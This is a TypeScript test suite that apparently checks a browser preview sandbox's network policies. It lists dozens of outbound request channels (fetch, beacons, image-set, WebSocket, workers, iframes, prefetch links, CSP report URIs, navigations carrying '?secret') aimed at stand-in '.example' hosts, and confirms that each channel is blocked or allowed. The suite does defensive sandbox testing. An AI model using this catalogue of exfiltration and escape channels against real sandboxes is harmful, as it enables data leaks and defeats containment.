import {afterAll, beforeAll, beforeEach, describe, expect, test} from 'vitest';
import {AttackLab} from './attack-lab.test-support.js';

let lab: AttackLab;

beforeAll(async () => {
  lab = await AttackLab.open();
});
afterAll(() => lab?.close());
beforeEach(() => {
  lab.site.outside.length = 0;
});

/** `HOST` is a host of the attack's own, so that what was asked says who asked. */
interface Way {
  body: string;
  /** With `open` it asks its host: the way is one, in both browsers. */
  works?: true;
  /** It is a navigation; see `connects`. */
  isNavigation?: true;
}

const fetching = "fetch('https://HOST/').catch(() => undefined)";
const inDocument = `<script>${fetching}</script>`;
const link = (relation: string, more = '') =>
  `element('link', {rel: '${relation}', href: 'https://HOST/' ${more}}); await wait()`;

const ways: Record<string, Way> = {
  fetch: {body: "await real.fetch('https://HOST/')", works: true},
  'fetch-of-a-frame': {body: "await nested().contentWindow.fetch('https://HOST/')"},
  xhr: {
    body: "const request = new real.XMLHttpRequest(); request.open('GET', 'https://HOST/'); request.send(); await wait()",
    works: true,
  },
  beacon: {body: "real.navigator.sendBeacon('https://HOST/'); await wait()", works: true},
  image: {body: "new real.Image().src = 'https://HOST/'; await wait()", works: true},
  'image-set': {
    body: "element('div', {style: 'height: 9px; background: image-set(\"https://HOST/\" 1x)'}); await wait()",
    works: true,
  },
  'svg-image': {
    body: "element('div', {innerHTML: '<svg><image href=\"https://HOST/\"/></svg>'}); await wait()",
    works: true,
  },
  script: {body: "element('script', {src: 'https://HOST/'}); await wait()", works: true},
  import: {body: 'await real.eval(\'import("https://HOST/")\')', works: true},
  stylesheet: {body: link('stylesheet'), works: true},
  'style-import': {
    body: "element('style', {textContent: '@import \"https://HOST/\"'}); await wait()",
    works: true,
  },
  font: {
    body: "await new real.FontFace('x', 'url(https://HOST/)').load()",
    works: true,
  },
  video: {
    body: "element('video', {src: 'https://HOST/', preload: 'auto'}); await wait()",
    works: true,
  },
  track: {
    body: "const video = element('video', {}); const track = document.createElement('track'); Object.assign(track, {default: true, src: 'https://HOST/'}); video.append(track); track.track.mode = 'showing'; await wait()",
  },
  object: {body: "element('object', {data: 'https://HOST/'}); await wait()", isNavigation: true},
  embed: {body: "element('embed', {src: 'https://HOST/'}); await wait()", isNavigation: true},
  prefetch: {body: link('prefetch')},
  preload: {body: link('preload', ", as: 'image'"), works: true},
  modulepreload: {body: link('modulepreload')},
  preconnect: {body: link('preconnect')},
  'dns-prefetch': {body: link('dns-prefetch')},
  icon: {body: link('icon')},
  manifest: {body: link('manifest')},
  speculation: {
    body: "element('script', {type: 'speculationrules', text: JSON.stringify({prefetch: [{source: 'list', urls: ['https://HOST/']}], prerender: [{source: 'list', urls: ['https://HOST/']}]})}); await wait()",
  },
  ping: {
    body: "element('a', {ping: 'https://HOST/', href: '#x'}).click(); await wait()",
  },
  socket: {body: "new real.WebSocket('wss://HOST/'); await wait()", works: true},
  'event-source': {body: "new real.EventSource('https://HOST/'); await wait()", works: true},
  transport: {body: "new real.WebTransport('https://HOST/'); await wait()"},
  worker: {
    body: `new Worker(URL.createObjectURL(new Blob([${JSON.stringify(fetching)}]))); await wait(400)`,
    works: true,
  },
  'imported-script': {
    body: 'new Worker(URL.createObjectURL(new Blob([\'importScripts("https://HOST/")\']))); await wait(400)',
    works: true,
  },
  'frame-with-text': {
    body: `element('iframe', {srcdoc: ${JSON.stringify(inDocument)}}); await wait(400)`,
    works: true,
  },
  'frame-of-a-blob': {
    body: `element('iframe', {src: URL.createObjectURL(new Blob([${JSON.stringify(inDocument)}], {type: 'text/html'}))}); await wait(400)`,
    works: true,
  },
  'frame-of-data': {
    body: `element('iframe', {src: 'data:text/html,' + encodeURIComponent(${JSON.stringify(inDocument)})}); await wait(400)`,
    works: true,
  },
  'frame-of-a-script': {
    body: `element('iframe', {src: ${JSON.stringify(`javascript:${fetching.replace(/'/g, '"')};''`)}}); await wait(400)`,
  },
  'report-of-a-policy': {
    body: "document.head.append(Object.assign(document.createElement('meta'), {httpEquiv: 'Content-Security-Policy', content: \"img-src 'none'; report-uri https://HOST/\"})); new real.Image().src = 'data:,'; await wait()",
  },
  frame: {
    body: "element('iframe', {src: 'https://HOST/'}); await wait()",
    works: true,
    isNavigation: true,
  },
  'frame-led-away': {
    body: "nested().contentWindow.location.href = 'https://HOST/'; await wait()",
    works: true,
    isNavigation: true,
  },
  'form-in-a-frame': {
    body: "const form = element('form', {action: 'https://HOST/', method: 'post', target: 'inner'}); nested().name = 'inner'; real.HTMLFormElement.prototype.submit.call(form); await wait()",
    isNavigation: true,
  },
  window: {body: "nested().contentWindow.open('https://HOST/'); await wait()"},
};

const hostOf = (name: string) => `${name}.example`;
const bodies = Object.fromEntries(
  Object.entries(ways).map(([name, {body}]) => [name, body.replaceAll('HOST', hostOf(name))]),
);
/** Chromium connects to the host that a navigation names before the policy refuses it; see SECURITY.md. */
const connects = (name: string) => lab.site.browser.name === 'chromium' && ways[name]?.isNavigation;
const asked = () => lab.site.outside.map((url) => new URL(url).hostname.replace(/\.example$/, '')).sort();

test('RT-I7 with network none, no way of asking leads out', async () => {
  await lab.run(bodies, {network: 'none'});
  expect(asked().filter((name) => !connects(name))).toEqual([]);
});

test('RT-I7 with network open, these ways do lead out', async () => {
  await lab.run(bodies, {network: 'open'});
  const names = asked();
  const unused = Object.keys(ways).filter((name) => ways[name]?.works && !names.includes(name));
  expect(unused).toEqual([]);
});

describe('RT-I8 by leaving the page', () => {
  // Plain http: with https, the connection that Chromium opens ahead could not be told from a request.
  const leaving: Record<string, string> = {
    'by assignment': "real.location.href = 'http://outside.example/?secret'",
    'by a link': "element('a', {href: 'http://outside.example/?secret'}).click()",
    'by a form':
      "HTMLFormElement.prototype.submit.call(element('form', {action: 'http://outside.example/?secret'}))",
    'by the frame around it': "real.parent.location.href = 'http://outside.example/?secret'",
    'by a refresh':
      "document.head.append(Object.assign(document.createElement('meta'), {httpEquiv: 'refresh', content: '0;url=http://outside.example/?secret'}))",
  };
  const project = (body: string) => `const real = (0, eval)('window');
const element = (name, properties) => { const one = Object.assign(document.createElement(name), properties); document.body.append(one); return one; };
setTimeout(() => { ${body}; }, 50);
setTimeout(() => console.log('still here'), 1000);`;

  test.each(Object.entries(leaving))('no request leaves with network none: %s', async (_, body) => {
    await lab.start(project(body), {network: 'none'});
    // Chromium leaves an error page behind, which is noticed; in Firefox nothing happens at all.
    const outcome = async () => (await lab.site.failure()) ?? (await lab.said('still here'));
    await expect.poll(outcome).toBeDefined();
    expect(lab.site.outside).toEqual([]);
  });

  test('with network open an app can lead its own frame away', async () => {
    await lab.start(project(leaving['by assignment']!), {network: 'open'});
    await expect.poll(() => lab.site.outside).toEqual(['http://outside.example/?secret']);
  });

  test('one that does is noticed, and the next change starts it again', async () => {
    await lab.start(`setTimeout(() => { (0, eval)('window').location.href = '${lab.origin}/api/me'; }, 50);`);
    await expect.poll(() => lab.site.failure()).toContain('another address');
    await expect.poll(() => lab.site.text('body')).toContain('The app left the preview');
    expect(await lab.site.edit({'main.js': "document.body.textContent = 'back';"})).toEqual({
      type: 'recovered',
    });
    expect(await lab.site.text('body')).toContain('back');
  });
});

/** A request that needs no leave of whom it asks. In a worker, because our own `fetch` takes this computer for the app's. */
const asking = (url: string) => {
  const code = `fetch(${JSON.stringify(url)}, {mode: 'no-cors'}).then(({type}) => postMessage(type), () => postMessage('refused'))`;
  return `return new Promise((resolve) => { new Worker(URL.createObjectURL(new Blob([${JSON.stringify(code)}]))).onmessage = ({data}) => resolve(data); })`;
};

test('RT-I14 with network gateway, the package gateway and our own files can be reached, and nothing beside them', async () => {
  const {origin} = lab;
  const results = await lab.run(
    {
      'the gateway': asking(`${origin}/api/packages/resolve`),
      'our files': asking(`${origin}/assets/pack-frame.js`),
      'the site beside them': asking(`${origin}/api/me`),
      'the page itself': asking(`${origin}/`),
      'another host': asking('https://outside.example/'),
    },
    {network: 'gateway', packagesUrl: `${origin}/api/packages`},
  );
  expect(results).toEqual({
    'the gateway': 'opaque',
    'our files': 'opaque',
    'the site beside them': 'refused',
    'the page itself': 'refused',
    'another host': 'refused',
  });
  expect(lab.site.outside).toEqual([]);
});

test('RT-I14 with network gateway, no other way of asking leads out', async () => {
  await lab.run(bodies, {network: 'gateway', packagesUrl: `${lab.origin}/api/packages`});
  expect(asked().filter((name) => !connects(name))).toEqual([]);
});

test('RT-I14 a policy that does not exist is refused', async () => {
  const code = await lab.site.page.evaluate(() =>
    bootSandbox({network: 'opne' as 'open'}).then(
      () => 'booted',
      (error: {code: string; message: string}) => `${error.code}: ${error.message}`,
    ),
  );
  expect(code).toBe('invalid-input: There is no network policy “opne”. There are: open, gateway, none.');
});

test('RT-I7 with network none the app itself works as ever', async () => {
  const code = "import './style.css'; document.body.textContent = await (await fetch('/note.txt')).text();";
  const files = {
    'package.json': '{"scripts": {"dev": "vite"}, "devDependencies": {"vite": "^7.0.0"}}',
    'index.html': '<!doctype html><body><script type="module" src="/main.js"></script>',
    'main.js': code,
    'style.css': 'body { color: rgb(1, 1, 1); }',
    'public/note.txt': 'a note',
  };
  expect((await lab.site.start(files, {network: 'none'})).outcome).toBe('painted');
  expect(await lab.site.text('body')).toBe('a note');
  expect(await lab.site.edit({'style.css': 'body { color: rgb(9, 9, 9); }'})).toMatchObject({kind: 'style'});
  expect(await lab.site.style('body', 'color')).toBe('rgb(9, 9, 9)');
});

test('RT-I7 with network open, https hosts can be reached; this computer and the local network cannot', async () => {
  await lab.run({
    https: "await real.fetch('https://outside.example/data')",
    http: "await real.fetch('http://outside.example/data')",
    local: "await real.fetch('http://192.168.1.1/')",
  });
  expect(lab.site.outside).toEqual(['https://outside.example']);
});
